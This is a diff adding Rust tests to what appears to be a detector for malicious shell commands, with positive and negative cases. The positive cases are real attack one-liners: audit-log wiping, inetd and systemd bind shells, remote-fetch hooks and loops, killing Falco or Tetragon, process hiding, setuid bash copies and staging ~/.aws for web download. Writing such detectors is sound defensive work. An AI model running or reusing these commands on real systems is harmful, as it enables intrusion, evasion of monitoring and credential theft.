@@ -766,3 +766,202 @@ fn commands_are_followed_through_what_finds_them() {
         &[UnitStrange],
     );
 }
+
+#[test]
+fn lines_that_are_taken_out_of_a_log_are_known() {
+    all_do(
+        &[
+            "sed -i '/203\\.0\\.113\\.9/d' /var/log/auth.log",
+            "f=/var/log/nginx/access.log; sed -i -e \"/$ip/d\" $f",
+            "grep -v svc-sync /var/log/auth.log > /tmp/a && cat /tmp/a > /var/log/auth.log",
+            "awk '!/10\\.0\\.0\\.9/' /var/log/secure > /run/a; mv /run/a /var/log/secure",
+            "utmpdump /var/log/wtmp | sed '/x/d' | utmpdump -r > /var/log/wtmp",
+            "psql -c \"delete from audit.events where actor = 'x'\"",
+        ],
+        &[LogLines],
+    );
+    none_does(
+        &[
+            "sed -i 's/a/b/' /var/log/app.conf",
+            "grep -v debug /var/log/syslog | wc -l",
+            "cat /var/log/syslog > /var/log/syslog.1",
+            ": > /var/log/wtmp",
+            "psql -c \"delete from audit_log where created_at < now() - interval '90 days'\"",
+            "psql -c \"DELETE FROM audit_log WHERE user_id = 7\"",
+            "grep -v healthz /var/log/nginx/access.log > /var/log/nginx/real.log",
+            "awk '!/DEBUG/' /var/log/app.log > /var/log/app.clean.log",
+            "sed -i '1,5000d' /var/log/app.log",
+            "sed -i '/^$/d' /var/log/app.log",
+            "cat /backup/wtmp > /var/log/wtmp",
+            "sed -i s/a/b/ /var/log/x/d",
+        ],
+        &[LogLines],
+    );
+}
+
+#[test]
+fn what_is_told_where_to_connect_to_is_known() {
+    all_do(
+        &[
+            "/usr/lib/gconv/update -r 198.51.100.14",
+            "/opt/a/agent -c 198.51.100.3:443 &",
+            "nohup /var/x/y 203.0.113.45 53",
+        ],
+        &[RunsToAddress],
+    );
+    none_does(
+        &[
+            "/sbin/iptables -A INPUT -s 198.51.100.3 -j DROP",
+            "/opt/app/run 10.0.0.1",
+            "/usr/bin/ping 198.51.100.3",
+        ],
+        &[RunsToAddress],
+    );
+}
+
+#[test]
+fn a_server_that_answers_with_a_shell_is_known() {
+    all_do(
+        &[
+            "cat > /etc/xinetd.d/x <<E\nservice x\n{\n  socket_type = stream\n  server = /bin/bash\n  server_args = -i\n}\nE",
+            "printf '[Service]\\nExecStart=-/bin/bash -l\\nStandardInput=socket\\n' > /lib/systemd/system/x@.service",
+            "echo '9930 stream tcp nowait root /bin/bash bash -i' >> /etc/inetd.conf",
+        ],
+        &[BindShell],
+    );
+    none_does(
+        &[
+            "printf '[Service]\\nExecStart=/usr/sbin/sshd -i\\nStandardInput=socket\\n' > /lib/systemd/system/ssh@.service",
+            "printf 'service rsync\\n{\\nserver = /usr/bin/rsync\\n}\\n' > /etc/xinetd.d/rsync",
+            "printf '[Service]\\nExecStart=/bin/sh -c x\\n' > /lib/systemd/system/x.service",
+            "printf '[Service]\\nExecStart=/bin/bash /usr/local/bin/health.sh\\nStandardInput=socket\\n' > /etc/systemd/system/h@.service",
+            "printf 'service h\\n{\\nserver = /bin/bash\\nserver_args = /opt/check.sh\\n}\\n' > /etc/xinetd.d/h",
+            "echo 'check stream tcp nowait root /usr/sbin/tcpd /bin/sh /opt/check.sh' >> /etc/inetd.conf",
+        ],
+        &[BindShell],
+    );
+}
+
+#[test]
+fn commands_in_settings_are_followed() {
+    all_do(
+        &[
+            "echo 'install loop /tmp/.x; /sbin/modprobe loop' > /etc/modprobe.d/x.conf",
+            "printf '[D-BUS Service]\\nExec=/dev/shm/agent\\n' > /usr/share/dbus-1/system-services/x.service",
+            "sed -i '2i curl http://h.example/x | sh' /var/lib/dpkg/info/tzdata.postinst",
+        ],
+        &[HookAdded, ProfileStrange],
+    );
+    none_does(
+        &[
+            "echo 'options kvm nested=1' > /etc/modprobe.d/kvm.conf",
+            "echo 'install usb-storage /bin/true' > /etc/modprobe.d/usb.conf",
+            "printf '/var/log/app.log {\\n  postrotate\\n systemctl reload app\\n endscript\\n}\\n' > /etc/logrotate.d/app",
+        ],
+        &[ProfileStrange],
+    );
+    all_do(
+        &[
+            "echo 'kernel.core_pattern=|/usr/lib/.cd/dump %p' > /etc/sysctl.d/50-c.conf",
+            "sysctl -w kernel.core_pattern='|/tmp/x'",
+        ],
+        &[EscapeCgroup],
+    );
+    none_does(
+        &[
+            "echo 'kernel.core_pattern=|/usr/lib/systemd/systemd-coredump %P' > /etc/sysctl.d/50-coredump.conf",
+        ],
+        &[EscapeCgroup],
+    );
+    none_does(&["printf 'install -d /var/run/app\\n' > /etc/init.d/app"], &[ProfileStrange]);
+    none_does(&["sed -i 's#/tmp/app.sock#/run/app.sock#' /etc/systemd/system/app.service"], &[UnitStrange]);
+    all_do(&["echo /opt/.lib > /etc/ld.so.conf.d/00.conf"], &[PreloadAdded]);
+    none_does(
+        &[
+            "echo /usr/local/cuda/lib64 > /etc/ld.so.conf.d/cuda.conf",
+            "echo /root/.mujoco/mujoco210/bin > /etc/ld.so.conf.d/mujoco.conf",
+        ],
+        &[PreloadAdded],
+    );
+}
+
+#[test]
+fn who_is_watched_by_nobody_any_more_is_known() {
+    all_do(
+        &[
+            "kubectl -n falco patch ds falco -p '{\"spec\":{\"template\":{\"spec\":{\"nodeSelector\":{\"no\":\"1\"}}}}}'",
+            "kubectl get ds -A | grep -iE 'falco|tetragon' | while read ns n; do kubectl -n $ns delete ds $n; done",
+            "M=$(lsmod | awk '/^(falco|tmhook)/{print $1}'); for m in $M; do rmmod -f $m; done",
+        ],
+        &[DefenceStopped],
+    );
+    all_do(
+        &[
+            "iptables -A OUTPUT -p udp --dport 514 -j DROP",
+            "iptables -I OUTPUT -d siem.corp.example -j REJECT",
+        ],
+        &[LoggingStopped],
+    );
+    none_does(
+        &[
+            "iptables -A OUTPUT -p tcp --dport 514 -j REJECT",
+            "iptables -A OUTPUT -p tcp -m multiport --dports 512,513,514 -j DROP",
+            "iptables -A INPUT -p udp --dport 514 -j DROP",
+            "iptables -A OUTPUT -p tcp --dport 25 -j DROP",
+        ],
+        &[LoggingStopped],
+    );
+    all_do(
+        &[
+            "ps() { command ps \"$@\" | command grep -v sysupd; }",
+            "ss() { /bin/ss \"$@\" | grep -v ':8443 '; }",
+        ],
+        &[ProcessHidden],
+    );
+    none_does(
+        &[
+            "cat > /etc/hosts <<E\n127.0.0.1 localhost\n10.0.0.5 syslog.corp.example\n10.0.0.6 plc1.siemens.example\nE",
+            "echo '127.0.0.1 temp-sensor.lab' >> /etc/hosts",
+        ],
+        &[HostsForged],
+    );
+    all_do(&["echo '127.0.0.1 siem.corp.example' >> /etc/hosts"], &[HostsForged]);
+    none_does(
+        &[
+            "kubectl delete validatingwebhookconfiguration ingress-nginx-admission",
+            "kubectl drain node-falco-1",
+            "kubectl patch ds falco -n falco -p '{\"metadata\":{\"labels\":{\"a\":\"b\"}}}'",
+        ],
+        &[DefenceStopped],
+    );
+    none_does(
+        &[
+            "ls() { command ls \"$@\" | grep -v '^total'; }",
+            "ps() { command ps aux | grep -v grep; }",
+            "ps() { command ps \"$@\" | less; }",
+            "mine() { ps | grep -v root; }",
+        ],
+        &[ProcessHidden],
+    );
+}
+
+#[test]
+fn files_of_commands_that_come_again_and_again_are_known() {
+    all_do(
+        &[
+            "while true; do aws s3 cp s3://b/cmd /dev/shm/.c && . /dev/shm/.c; sleep 9; done",
+            "while :; do curl -so /tmp/j http://h.example/j; sh /tmp/j; sleep 60; done",
+        ],
+        &[CommandLoop],
+    );
+    none_does(
+        &[
+            "curl -so /opt/app http://h.example/app; while true; do /opt/app; sleep 1; done",
+            "while true; do curl -fsSLo i.sh http://h.example/i && bash i.sh && break; sleep 10; done",
+        ],
+        &[CommandLoop],
+    );
+    all_do(&["install -m 6755 -o root /bin/bash /usr/bin/bashh"], &[SetuidShell]);
+    none_does(&["install -m 4755 build/ping /usr/bin/ping"], &[SetuidShell]);
+    all_do(&["tar czf /tmp/x ~/.aws; cp /tmp/x /var/www/html/favicon.ico"], &[SendsToWeb]);
+}
